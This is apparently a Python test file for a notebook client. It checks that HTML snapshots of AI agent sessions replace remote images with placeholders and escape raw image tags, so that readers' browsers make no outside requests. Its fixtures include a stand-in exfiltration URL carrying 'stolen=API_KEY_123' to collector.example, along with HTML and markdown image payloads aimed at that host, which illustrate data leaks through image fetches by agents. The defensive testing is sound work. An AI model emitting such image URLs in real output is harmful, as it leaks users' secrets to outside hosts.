"""The HTML snapshot a notebook keeps of a session fetches no remote image: a shared notebook
would otherwise call the agent's image URLs (which can carry data out) for every reader."""

from __future__ import annotations

from html.parser import HTMLParser

from glue_jupyter.client.render import snapshot_html


class Images(HTMLParser):
    def __init__(self):
        super().__init__()
        self.sources: list[str] = []
        self.links: list[str] = []

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "img":
            self.sources.append(attrs.get("src", ""))
        elif tag == "a":
            self.links.append(attrs.get("href", ""))


async def test_remote_images_become_a_placeholder_with_their_host(glue_api):
    url = "https://collector.example/pixel.png?stolen=API_KEY_123&x=1"
    sid = (await glue_api.start(prompt=f"picture {url}"))["id"]
    session = await glue_api.wait_for(sid, "idle")
    events = await glue_api.events(sid)
    html = snapshot_html(session, events)

    images = Images()
    images.feed(html)
    assert all(src.startswith("data:image/") for src in images.sources)  # nothing fetched
    assert len(images.sources) == 1  # the agent's inline square still shows
    assert "Image from <b>collector.example</b>" in html and "sales chart" in html
    assert url in images.links  # the reader may open it on purpose


def test_raw_html_images_are_escaped_not_rendered():
    session = {"id": "s", "title": "t", "agent": "demo", "cwd": "/", "state": "idle"}
    events = [{"seq": 1, "kind": "agent_message_chunk", "turn": 1,
               "data": {"text": '<img src="https://collector.example/a.png"> ![x](//collector.example/b.png)'}}]
    images = Images()
    images.feed(snapshot_html(session, events))
    assert images.sources == []
